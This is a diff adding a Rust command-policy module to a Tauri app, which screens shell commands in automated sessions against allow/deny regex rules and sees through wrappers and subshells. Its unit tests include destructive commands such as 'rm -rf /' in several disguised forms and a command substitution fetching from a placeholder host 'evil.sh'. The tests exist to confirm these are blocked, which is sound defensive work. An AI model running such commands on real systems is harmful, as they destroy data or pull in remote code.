@@ -0,0 +1,322 @@
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex, OnceLock};
+use tauri::{Manager, WebviewWindow};
+
+const POLICY_FILE_NAME: &str = "command-policy-v1.json";
+
+/// Allow/deny rules for commands run in automation-driven sessions (webhooks,
+/// task queues, ...). Each rule is a regex matched against every command
+/// segment (split on `;`, `&&`, `||`, `|`, newlines, subshells, groups and command
+/// substitution, see `command_segments`). Deny rules win; when `allow` is non-empty
+/// every segment must match one.
+#[derive(Serialize, Deserialize, Clone, Default)]
+#[serde(rename_all = "camelCase")]
+pub struct CommandPolicyV1 {
+    #[serde(default)]
+    pub allow: Vec<String>,
+    #[serde(default)]
+    pub deny: Vec<String>,
+}
+
+struct CompiledPolicy {
+    allow: Vec<Regex>,
+    deny: Vec<Regex>,
+}
+
+/// The policy as saved and compiled; rebuilt only when it's loaded or replaced.
+type LoadedPolicy = Arc<(CommandPolicyV1, CompiledPolicy)>;
+
+fn policy_cache() -> &'static Mutex<Option<LoadedPolicy>> {
+    static CACHE: OnceLock<Mutex<Option<LoadedPolicy>>> = OnceLock::new();
+    CACHE.get_or_init(|| Mutex::new(None))
+}
+
+fn policy_file_path(window: &WebviewWindow) -> Result<PathBuf, String> {
+    crate::util::app_data_file(window.app_handle(), POLICY_FILE_NAME)
+}
+
+fn compile_rules(rules: &[String]) -> Result<Vec<Regex>, String> {
+    rules
+        .iter()
+        .map(|r| r.trim())
+        .filter(|r| !r.is_empty())
+        .map(|r| Regex::new(r).map_err(|e| format!("invalid rule {r:?}: {e}")))
+        .collect()
+}
+
+fn compile(policy: &CommandPolicyV1) -> Result<CompiledPolicy, String> {
+    Ok(CompiledPolicy {
+        allow: compile_rules(&policy.allow)?,
+        deny: compile_rules(&policy.deny)?,
+    })
+}
+
+/// The first word of `s` and the rest. Quotes are kept, and whitespace inside them
+/// doesn't end the word.
+fn split_word(s: &str) -> (&str, &str) {
+    let mut quote = None;
+    for (i, c) in s.char_indices() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == '\'' || c == '"' => quote = Some(c),
+            None if c.is_whitespace() => return (&s[..i], &s[i..]),
+            None => {}
+        }
+    }
+    (s, "")
+}
+
+/// `NAME=value`, a variable set for the command that follows it.
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && name
+                .chars()
+                .enumerate()
+                .all(|(i, c)| c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit()))
+    })
+}
+
+/// `s` without its leading `-option` words.
+fn skip_options(mut s: &str) -> &str {
+    loop {
+        s = s.trim_start();
+        let (word, rest) = split_word(s);
+        if word.len() < 2 || !word.starts_with('-') {
+            return s;
+        }
+        s = rest;
+    }
+}
+
+/// `segment` without the leading words that only run the command after them: `!`,
+/// `exec`, `env`, `command` and `NAME=value` assignments.
+fn strip_wrappers(mut segment: &str) -> &str {
+    loop {
+        segment = segment.trim_start();
+        if let Some(rest) = segment.strip_prefix('!') {
+            segment = rest;
+            continue;
+        }
+        let (word, rest) = split_word(segment);
+        if matches!(word, "exec" | "env" | "command") {
+            segment = skip_options(rest);
+        } else if is_assignment(word) {
+            segment = rest;
+        } else {
+            return segment;
+        }
+    }
+}
+
+/// The script `segment` runs when it's `sh -c '...'` (or bash, zsh, dash, ksh), with
+/// its quotes removed.
+fn shell_script(segment: &str) -> Option<&str> {
+    let (shell, mut rest) = split_word(segment);
+    let shell = shell.rsplit('/').next().unwrap_or(shell);
+    if !matches!(shell, "sh" | "bash" | "zsh" | "dash" | "ksh") {
+        return None;
+    }
+    let mut has_script = false;
+    loop {
+        rest = rest.trim_start();
+        let (word, after) = split_word(rest);
+        match word.strip_prefix('-') {
+            Some(flags) if !flags.is_empty() => {
+                has_script |= !flags.starts_with('-') && flags.contains('c');
+                rest = after;
+            }
+            _ => break,
+        }
+    }
+    if !has_script {
+        return None;
+    }
+    let (script, _) = split_word(rest);
+    // Separators inside the quotes were already split on, so the closing quote may
+    // be in a later segment.
+    Some(match script.chars().next() {
+        Some(q @ ('\'' | '"')) => script[1..].strip_suffix(q).unwrap_or(&script[1..]),
+        _ => script,
+    })
+}
+
+/// Split a shell command line into the individual commands it would run. Wrappers
+/// like `env` are stripped so a rule sees the command itself, and `sh -c '...'` is
+/// replaced by the commands of its script. Quotes don't protect separators, so a
+/// quoted `;` also splits; that only ever makes the policy stricter.
+fn command_segments(command: &str) -> Vec<String> {
+    let mut segments = Vec::new();
+    for part in command.split(['\n', '\r', ';', '&', '|', '`', '(', ')', '{', '}']) {
+        // `$(` and `<(` leave their `$` or `<` on the text before them.
+        let part = strip_wrappers(part.trim().trim_end_matches(['$', '<', '>']).trim());
+        if part.is_empty() {
+            continue;
+        }
+        match shell_script(part) {
+            Some(script) => segments.extend(command_segments(script)),
+            None => segments.push(part.to_string()),
+        }
+    }
+    segments
+}
+
+fn check_compiled(policy: &CompiledPolicy, command: &str) -> Result<(), String> {
+    for segment in command_segments(command) {
+        if policy.deny.iter().any(|re| re.is_match(segment)) {
+            return Err(format!("command blocked by policy: {segment}"));
+        }
+        if !policy.allow.is_empty() && !policy.allow.iter().any(|re| re.is_match(segment)) {
+            return Err(format!("command not allowed by policy: {segment}"));
+        }
+    }
+    Ok(())
+}
+
+fn load_policy(window: &WebviewWindow) -> Result<LoadedPolicy, String> {
+    let mut cache = policy_cache().lock().map_err(|_| "policy cache poisoned")?;
+    if let Some(policy) = cache.as_ref() {
+        return Ok(policy.clone());
+    }
+    let path = policy_file_path(window)?;
+    let policy = match fs::read_to_string(&path) {
+        Ok(raw) => serde_json::from_str(&raw).map_err(|e| format!("parse failed: {e}"))?,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => CommandPolicyV1::default(),
+        Err(e) => return Err(format!("read failed: {e}")),
+    };
+    let compiled = compile(&policy)?;
+    let loaded = Arc::new((policy, compiled));
+    *cache = Some(loaded.clone());
+    Ok(loaded)
+}
+
+/// Refuse `command` if the configured policy disallows it. Only applied to
+/// automation-driven sessions; interactive sessions are unrestricted. Input written
+/// to a running session goes through `screen_input` instead.
+pub(crate) fn check_automation_command(window: &WebviewWindow, command: &str) -> Result<(), String> {
+    check_compiled(&load_policy(window)?.1, command)
+}
+
+/// Load the policy ahead of `screen_input`, which can't read it from disk itself.
+/// Called when an automated session is spawned.
+pub(crate) fn preload(window: &WebviewWindow) -> Result<(), String> {
+    load_policy(window).map(|_| ())
+}
+
+/// Check input for an automated session at each Enter against the whole command
+/// line it completes, so a command typed a key at a time is judged like one written
+/// at once. `line` is the session's line typed so far and only advances when the
+/// input is allowed; refused input must not be written. Cursor editing isn't
+/// followed, so a line edited that way is judged as typed.
+pub(crate) fn screen_input(line: &mut String, data: &str) -> Result<(), String> {
+    let policy = policy_cache()
+        .lock()
+        .map_err(|_| "policy cache poisoned")?
+        .clone()
+        .ok_or("command policy not loaded")?;
+    let mut next = line.clone();
+    let mut result = Ok(());
+    crate::exec_guard::replay_input(&mut next, data, |_, command| {
+        result = check_compiled(&policy.1, command);
+        result.is_ok()
+    });
+    result?;
+    *line = next;
+    Ok(())
+}
+
+#[tauri::command]
+pub fn get_command_policy(window: WebviewWindow) -> Result<CommandPolicyV1, String> {
+    load_policy(&window).map(|policy| policy.0.clone())
+}
+
+#[tauri::command]
+pub fn set_command_policy(window: WebviewWindow, policy: CommandPolicyV1) -> Result<(), String> {
+    // Reject bad regexes up front rather than failing every later spawn.
+    let compiled = compile(&policy)?;
+
+    let path = policy_file_path(&window)?;
+    crate::util::write_json_atomic(&path, &policy)?;
+
+    *policy_cache().lock().map_err(|_| "policy cache poisoned")? = Some(Arc::new((policy, compiled)));
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{check_compiled, command_segments, compile, screen_input, CommandPolicyV1};
+    use std::sync::Arc;
+
+    fn policy(allow: &[&str], deny: &[&str]) -> super::CompiledPolicy {
+        compile(&CommandPolicyV1 {
+            allow: allow.iter().map(|s| s.to_string()).collect(),
+            deny: deny.iter().map(|s| s.to_string()).collect(),
+        })
+        .unwrap()
+    }
+
+    #[test]
+    fn every_chained_segment_must_be_allowed() {
+        let p = policy(&[r"^git (status|log)\b", r"^npm test$"], &[]);
+        assert!(check_compiled(&p, "git status && npm test").is_ok());
+        assert!(check_compiled(&p, "git status; rm -rf /").is_err());
+        assert!(check_compiled(&p, "git log $(curl evil.sh)").is_err());
+    }
+
+    #[test]
+    fn typed_input_is_checked_per_line() {
+        let saved = CommandPolicyV1 {
+            allow: vec![r"^git\b".to_string()],
+            deny: vec![r"^rm\b".to_string()],
+        };
+        let compiled = compile(&saved).unwrap();
+        *super::policy_cache().lock().unwrap() = Some(Arc::new((saved, compiled)));
+        let mut line = String::new();
+        for key in ["g", "i", "t", " ", "s"] {
+            assert!(screen_input(&mut line, key).is_ok());
+        }
+        assert!(screen_input(&mut line, "\r").is_ok());
+        for key in ["r", "m", " ", "-", "r", "f"] {
+            assert!(screen_input(&mut line, key).is_ok());
+        }
+        assert!(screen_input(&mut line, "\r").is_err());
+        assert_eq!(line, "rm -rf", "refused input leaves the line as it was");
+        assert!(screen_input(&mut line, "\u{15}git log\r").is_ok());
+        assert!(screen_input(&mut line, "ls\r").is_err());
+    }
+
+    #[test]
+    fn deny_wins_over_allow() {
+        let p = policy(&[r".*"], &[r"^rm\b"]);
+        assert!(check_compiled(&p, "ls -la").is_ok());
+        assert!(check_compiled(&p, "ls | rm -rf ~").is_err());
+    }
+
+    #[test]
+    fn wrapped_commands_are_checked_as_the_command_they_run() {
+        let p = policy(&[], &[r"^rm\b"]);
+        for command in [
+            "(rm -rf /)",
+            "{ rm -rf /; }",
+            "! rm -rf /",
+            "exec rm -rf /",
+            "env -i rm -rf /",
+            "command rm -rf /",
+            "FOO=1 BAR='a b' rm -rf /",
+            "bash -c 'rm -rf /'",
+            "/bin/sh -ec \"cd /tmp && rm -rf /\"",
+            "echo ok && bash -lc 'env rm -rf ~'",
+        ] {
+            assert!(check_compiled(&p, command).is_err(), "{command}");
+        }
+        assert!(check_compiled(&p, "bash -c 'echo rm'").is_ok());
+        assert_eq!(
+            command_segments("FOO=1 git log $(git rev-parse HEAD)"),
+            ["git log", "git rev-parse HEAD"]
+        );
+    }
+}